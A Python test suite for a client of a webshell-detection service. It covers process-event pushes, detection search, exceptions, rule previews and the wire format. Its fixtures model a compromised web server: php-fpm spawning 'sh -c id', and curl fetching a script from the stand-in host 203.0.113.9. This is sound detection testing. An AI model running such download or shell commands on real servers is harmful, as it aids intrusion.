"""WebshellBehaviorDetector detections, excepted detections, process-event push, rule
preview and the detection-rule catalogue, against the real server (sync and async)."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from typing import Any

import httpx
import orjson
import pytest

from secmon.client import (
    ActionStatus,
    Detection,
    DetectionRule,
    ExceptedDetection,
    GatewayError,
    Page,
    ProcessEvent,
    ProcessReport,
    RulePreview,
    TargetType,
    WbdError,
    WebshellBehaviorDetector,
)
from tests.conftest import SignedApi, Tenant

T0 = 1_720_000_000_000
MINUTE = 60_000

#: A web server spawning a shell: detection WBD-SH-001.
SHELL_FROM_PHP: ProcessEvent = {
    "time": T0,
    "instanceNo": "25000097",
    "hostName": "web-1",
    "processName": "sh",
    "processArg": "-c id",
    "processId": 4242,
    "executor": "www-data",
    "processNameOfParent": "php-fpm",
    "processArgOfParent": "pool www",
    "processIdOfParent": 4000,
    "executorOfParent": "www-data",
}


def shells(count: int, start: int = T0) -> list[dict[str, Any]]:
    """`count` distinct detections (their arguments differ), a minute apart."""
    return [{**SHELL_FROM_PHP, "time": start + i * MINUTE, "processArg": f"-c id {i}"} for i in range(count)]


def wire_items(api: SignedApi, tenant: Tenant, path: str) -> list[dict[str, Any]]:
    answer = api.wbd("GET", tenant, f"{path}?pageIndex=0&pageSize=1000")
    assert answer["success"] is True, answer
    items: list[dict[str, Any]] = answer["result"]["content"]
    return items


def test_push_list_search_and_iterate(wbd: Any, api: SignedApi, tenant: Tenant) -> None:
    wbd.add_server("25000097", "web-1", host_name="web-1", ip_address="10.0.1.5")
    curl: ProcessEvent = {
        **SHELL_FROM_PHP,
        "time": datetime.fromtimestamp((T0 + 30 * MINUTE) / 1000, UTC),  # a datetime is sent as ms
        "processName": "curl",
        "processArg": "http://203.0.113.9/a.sh",
        "executor": "nginx",
        "processNameOfParent": "sh",
        "processArgOfParent": "-c curl",
        "executorOfParent": "nobody",
        "ancestors": [{"processName": "php-fpm"}],
        "suspiciousIP": "203.0.113.9",
        "containerName": "shop",
    }
    report: ProcessReport = wbd.push_events(
        [
            *shells(9),
            {**SHELL_FROM_PHP, "time": T0 + 5 * MINUTE, "processArg": "-c id 0"},  # a repeat of the first
            {"time": T0, "instanceNo": "25000097", "processName": "ls"},  # nothing to see
            {"time": T0, "instanceNo": "25000097"},  # no processName: refused
            curl,
        ]
    )
    assert (report.accepted, report.detections, report.excepted, report.repeats, report.malformed) == (
        12,
        10,
        0,
        1,
        1,
    )
    assert report.to_wire() == {"accepted": 12, "detections": 10, "excepted": 0, "repeats": 1, "malformed": 1}

    page: Page[Detection] = wbd.list_detections(page_index=1, page_size=4)
    assert (page.total, page.page_size, page.page_index, page.total_pages) == (10, 4, 1, 3)
    walked = list(wbd.iter_detections(page_size=2))  # 5 pages
    assert [d.to_wire() for d in walked] == wire_items(api, tenant, "/api/v1/detections")
    assert [d.to_wire() for d in page.items] == [d.to_wire() for d in walked[4:8]]
    assert [d.process_name for d in walked] == ["curl"] + ["sh"] * 9  # newest first
    assert [d.process_arg for d in walked[1:]] == [f"-c id {i}" for i in reversed(range(9))]

    first = walked[-1]
    assert isinstance(first, Detection)
    assert not isinstance(first, ExceptedDetection)
    assert len(first.detection_id) == 22
    assert (first.instance_no, first.host_name, first.server_name, first.private_ip_of_server) == (
        "25000097",
        "web-1",
        "web-1",
        "10.0.1.5",
    )
    assert (first.command, first.process_id, first.process_id_of_parent) == ("sh -c id 0", "4242", "4000")
    assert (first.executor, first.process_name_of_parent, first.process_arg_of_parent) == (
        "www-data",
        "php-fpm",
        "pool www",
    )
    assert (first.rule_id, first.rule_name, first.severity, first.detect_count) == (
        "WBD-SH-001",
        "Web server spawned a shell",
        3,
        2,
    )
    assert (first.action_status, first.memo, first.uid) == (ActionStatus.BLANK, None, None)
    assert first.detect_time == first.action_time == T0
    assert first.detected_at == datetime.fromtimestamp(T0 / 1000, UTC)
    assert first.collected_at is not None
    assert first.last_updated_at is not None
    assert "exceptionId" not in first.to_wire()
    top = walked[0]
    assert (top.detect_time, top.suspicious_ip, top.container_name) == (
        T0 + 30 * MINUTE,
        "203.0.113.9",
        "shop",
    )
    assert top.rule_id == "WBD-DL-001"

    def found(**filters: Any) -> list[str]:
        return [d.command for d in wbd.search_detections(page_size=100, **filters).items]

    everything = [d.command for d in walked]
    assert found() == everything
    assert found(process_name="CUR") == [top.command]
    assert found(process_arg="ID 3") == ["sh -c id 3"]
    assert found(executor="nginx") == [top.command]
    assert found(executor_of_parent="NOBODY") == [top.command]
    assert found(process_name_of_parent="php-FPM") == everything[1:]
    assert found(process_arg_of_parent="-c curl") == [top.command]
    assert found(host_name="WEB-1") == everything
    assert found(server_name="web-1") == everything
    assert found(private_ip_of_server="10.0.1") == everything
    assert found(suspicious_ip="203.0.113") == [top.command]
    assert found(detect_from=T0 + 2 * MINUTE, detect_to=T0 + 3 * MINUTE) == ["sh -c id 3", "sh -c id 2"]
    since = datetime.fromtimestamp((T0 + 8 * MINUTE) / 1000, UTC)
    assert found(detect_from=since) == everything[:2]
    assert found(action_status=ActionStatus.CONFIRMED) == []
    assert found(action_status="blank") == everything
    assert found(memo="x") == []
    for name in ("server_name", "host_name", "executor"):
        assert found(**{name: "zzz"}) == [], name
    # With filters the iterator walks the search.
    narrowed = list(wbd.iter_detections(page_size=2, process_name_of_parent="php"))
    assert [d.command for d in narrowed] == everything[1:]
    paged = wbd.search_detections(page_index=2, page_size=4, process_name="sh")
    assert (paged.total, [d.command for d in paged.items]) == (9, everything[9:])


def test_memo_except_cancel_and_delete(wbd: Any, api: SignedApi, tenant: Tenant) -> None:
    wbd.push_events(shells(2))
    second, first = wbd.list_detections().items
    assert wbd.set_detection_memo(first.detection_id, "looked at it") is None
    (marked,) = wbd.search_detections(memo="LOOKED").items
    assert (marked.detection_id, marked.memo, marked.action_status) == (
        first.detection_id,
        "looked at it",
        ActionStatus.CONFIRMED,
    )

    moved: ExceptedDetection = wbd.except_detection(first.detection_id, create_rule=True)
    assert (moved.detection_id, moved.memo, moved.command) == (
        first.detection_id,
        "looked at it",
        "sh -c id 0",
    )
    assert len(moved.exception_id) == 22
    assert moved.excepted_rule_id
    assert moved.excepted_rule_name
    assert next(iter(moved.to_wire())) == "exceptionId"  # the wire's order, exceptionId first
    assert list(moved.to_wire())[-2:] == ["exceptedRuleId", "exceptedRuleName"]
    by_hand = wbd.except_detection(second.detection_id)
    assert (by_hand.excepted_rule_id, by_hand.excepted_rule_name) == (None, None)
    assert wbd.list_detections().total == 0
    # The rule made from the detection excepts its next repeat, beyond the repeat window.
    report = wbd.push_events([{**SHELL_FROM_PHP, "time": T0 + 60 * MINUTE, "processArg": "-c id 0"}])
    assert (report.detections, report.excepted) == (0, 1)

    excepted = wbd.list_exceptions(page_size=10)
    assert excepted.total == 3
    assert all(isinstance(e, ExceptedDetection) for e in excepted.items)
    assert [e.to_wire() for e in excepted.items] == wire_items(api, tenant, "/api/v1/exceptions")
    latest = excepted.items[0]
    assert (latest.detect_time, latest.excepted_rule_id) == (T0 + 60 * MINUTE, moved.excepted_rule_id)
    assert [e.exception_id for e in wbd.iter_exceptions(page_size=1)] == [
        e.exception_id for e in excepted.items
    ]
    searched = wbd.search_exceptions(memo="looked", detect_to=T0 + 30 * MINUTE)
    assert [e.exception_id for e in searched.items] == [moved.exception_id]
    assert [e.detection_id for e in wbd.iter_exceptions(page_size=1, process_arg="id 1")] == [
        second.detection_id
    ]

    assert wbd.set_exception_memo(moved.exception_id, "known job") is None
    assert wbd.search_exceptions(memo="known").items[0].exception_id == moved.exception_id
    assert wbd.set_exception_memo(by_hand.detection_id, None) is None  # the detection id names it too
    assert wbd.cancel_exception(moved.exception_id) is None
    back = wbd.list_detections().items
    assert [(d.detection_id, d.memo) for d in back] == [(first.detection_id, "known job")]
    assert "exceptionId" not in back[0].to_wire()
    assert wbd.list_exceptions().total == 2

    assert wbd.delete_detection(first.detection_id) is None
    assert wbd.list_detections().total == 0
    with pytest.raises(WbdError) as missing:
        wbd.delete_detection(first.detection_id)
    assert (missing.value.wbd_code, missing.value.code) == (404, "404")
    with pytest.raises(WbdError) as not_excepted:
        wbd.cancel_exception(first.detection_id)
    assert not_excepted.value.wbd_code == 404
    with pytest.raises(WbdError) as bad:
        wbd.search_detections(action_status="maybe")
    assert bad.value.wbd_code == 400
    assert bad.value.message.startswith("actionStatus: ")


def test_preview_and_detection_rules(wbd: Any) -> None:
    now = int(time.time() * 1000)
    wbd.push_events(shells(3, start=now - 10 * MINUTE))
    preview: RulePreview = wbd.preview_rule(
        "php sh", TargetType.SERVER, target="25000097", process_name="sh", process_name_of_parent="php",
        process_name_of_parent_condition="START", days=1,
    )  # fmt: skip
    assert preview.would_suppress == 3
    assert [d.command for d in preview.sample] == ["sh -c id 2", "sh -c id 1", "sh -c id 0"]
    assert all(isinstance(d, Detection) for d in preview.sample)
    none = wbd.preview_rule("bash", "everyServer", process_name="bash")  # 7 days by default
    assert (none.would_suppress, none.sample) == (0, [])
    assert none.to_wire() == {"wouldSuppress": 0, "sample": []}
    assert wbd.list_rules().total == 0  # nothing was saved
    with pytest.raises(WbdError) as bad:
        wbd.preview_rule("x", "everyServer", process_name="sh", days=0)
    assert (bad.value.wbd_code, bad.value.message.split(":")[0]) == (400, "days")

    rules: list[DetectionRule] = wbd.list_detection_rules()
    by_id = {r.rule_id: r for r in rules}
    assert "WBD-SH-001" in by_id
    assert all(r.enabled for r in rules)
    shell = by_id["WBD-SH-001"]
    assert (shell.name, shell.severity) == ("Web server spawned a shell", 3)
    assert shell.description
    assert shell.references
    off = wbd.set_detection_rule("WBD-SH-001", enabled=False)
    assert (off.rule_id, off.enabled) == ("WBD-SH-001", False)
    assert {r.rule_id: r.enabled for r in wbd.list_detection_rules()}["WBD-SH-001"] is False
    quiet = wbd.push_events([{**SHELL_FROM_PHP, "time": now, "processArg": "-c true"}])
    assert (quiet.accepted, quiet.detections) == (1, 0)
    assert wbd.set_detection_rule("WBD-SH-001", enabled=True).enabled is True
    loud = wbd.push_events([{**SHELL_FROM_PHP, "time": now, "processArg": "-c true"}])
    assert loud.detections == 1
    with pytest.raises(WbdError) as unknown:
        wbd.set_detection_rule("WBD-NOPE-001", enabled=True)
    assert unknown.value.wbd_code == 404


# -- what goes on the wire (no server: an httpx.MockTransport records the requests)

DETECTION_ID = "2024072323595700000436"
JULY_1, JULY_1_MS = datetime(2024, 7, 1, tzinfo=UTC), 1_719_792_000_000
ITEM = {"detectionId": DETECTION_ID, "instanceNo": 25000097, "processId": 4242, "uid": 33, "severity": 3}
EXCEPTED = {"exceptionId": "2024072321225900000008", **ITEM, "exceptedRuleId": None}
PAGE = {"content": [ITEM], "totalCount": 1, "pageSize": 20, "pageIndex": 0, "totalPages": 1}
RULE = {"ruleId": "WBD-SH-001", "ruleName": "shell", "severity": 3, "enabled": False}
REPORT = {"accepted": 1, "detections": 1, "excepted": 0, "repeats": 0, "malformed": 0}

#: name → (call, method, path and query, JSON body, the answer's `result`, a read?)
WIRE: dict[str, tuple[Any, str, str, Any, Any, bool]] = {
    "list": (
        lambda w: w.list_detections(page_index=2, page_size=5),
        "GET", "/api/v1/detections?pageIndex=2&pageSize=5", None, PAGE, True,
    ),
    "search": (
        lambda w: w.search_detections(
            action_status=ActionStatus.CONFIRMED, detect_from=JULY_1, detect_to=0,
            executor="e", executor_of_parent="ep", host_name="h", memo="m", private_ip_of_server="10.",
            process_arg="a", process_arg_of_parent="ap", process_name="n", process_name_of_parent="np",
            server_name="s", suspicious_ip="203.", page_size=3,
        ),
        "POST", "/api/v1/detections",
        {
            "actionStatus": "confirmed", "detectTimeFrom": JULY_1_MS, "detectTimeTo": 0, "executor": "e",
            "executorOfParent": "ep", "hostName": "h", "memo": "m", "privateIPofServer": "10.",
            "processArg": "a", "processArgOfParent": "ap", "processName": "n", "processNameOfParent": "np",
            "serverName": "s", "suspiciousIP": "203.", "pageIndex": 0, "pageSize": 3,
        },
        PAGE, True,
    ),
    "memo": (
        lambda w: w.set_detection_memo(DETECTION_ID, "seen"),
        "PATCH", f"/api/v1/detections/{DETECTION_ID}/memo", {"content": "seen"}, None, False,
    ),
    "delete": (
        lambda w: w.delete_detection("a/b?c"), "DELETE", "/api/v1/detections/a%2Fb%3Fc", None, None, False,
    ),
    "except": (
        lambda w: w.except_detection(DETECTION_ID, create_rule=True),
        "POST", f"/secmon/v1/wbd/detections/{DETECTION_ID}/except", {"createRule": True}, EXCEPTED, False,
    ),
    "exceptions list": (
        lambda w: w.list_exceptions(), "GET", "/api/v1/exceptions?pageIndex=0&pageSize=20", None,
        {**PAGE, "content": [EXCEPTED]}, True,
    ),
    "exceptions search": (
        lambda w: w.search_exceptions(server_name="web", page_index=1),
        "POST", "/api/v1/exceptions", {"serverName": "web", "pageIndex": 1, "pageSize": 20},
        {**PAGE, "content": [EXCEPTED]}, True,
    ),
    "exceptions memo": (
        lambda w: w.set_exception_memo("2024072321225900000008", None),
        "PATCH", "/api/v1/exceptions/2024072321225900000008/memo", {"content": None}, None, False,
    ),
    "cancel": (
        lambda w: w.cancel_exception("2024072321225900000008"),
        "PATCH", "/api/v1/exceptions/2024072321225900000008/cancel", None, None, False,
    ),
    "push": (
        lambda w: w.push_events([{"time": JULY_1, "instanceNo": "1", "processName": "sh"}]),
        "POST", "/secmon/v1/wbd/process-events",
        [{"time": JULY_1_MS, "instanceNo": "1", "processName": "sh"}], REPORT, False,
    ),
    "preview": (
        lambda w: w.preview_rule("p", TargetType.SERVER, target="1", process_name="sh", days=3),
        "POST", "/secmon/v1/wbd/exception-rules/preview",
        {"exceptedRuleName": "p", "exceptTargetType": "server", "exceptTarget": "1", "processName": "sh",
         "days": 3},
        {"wouldSuppress": 1, "sample": [ITEM]}, True,
    ),
    "detection rules": (
        lambda w: w.list_detection_rules(), "GET", "/secmon/v1/wbd/detection-rules", None, [RULE], True,
    ),
    "detection rule": (
        lambda w: w.set_detection_rule("WBD-SH-001", enabled=False),
        "PATCH", "/secmon/v1/wbd/detection-rules/WBD-SH-001", {"enabled": False}, RULE, False,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WIRE)
def test_what_each_operation_sends(name: str) -> None:
    call, method, path, body, result, read = WIRE[name]
    sent: list[httpx.Request] = []
    failures = [httpx.Response(503, json={"error": {"errorCode": "900", "message": "Unexpected Error"}})]

    def answer(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        if failures:
            return failures.pop(0)
        return httpx.Response(200, json={"success": True, "code": 0, "message": "success", "result": result})

    transport = httpx.MockTransport(answer)
    with WebshellBehaviorDetector(
        "http://wbd.test", access_key="k", secret_key="s", transport=transport, backoff=0
    ) as wbd:
        if not read:  # a change is never retried: the 503 is the answer
            with pytest.raises(GatewayError):
                call(wbd)
            assert len(sent) == 1
            failures.clear()
            sent.clear()
        answered = call(wbd)
    assert len(sent) == (2 if read else 1)
    request = sent[-1]
    assert (request.method, request.url.raw_path.decode()) == (method, path)
    assert (None if not request.content else orjson.loads(request.content)) == body
    if isinstance(answered, Page):
        item = answered.items[0]  # identifiers are strings, even where a server sends numbers
        assert (item.instance_no, item.process_id, item.uid, item.severity) == ("25000097", "4242", "33", 3)
    elif result is None:
        assert answered is None
    else:
        assert answered is not None
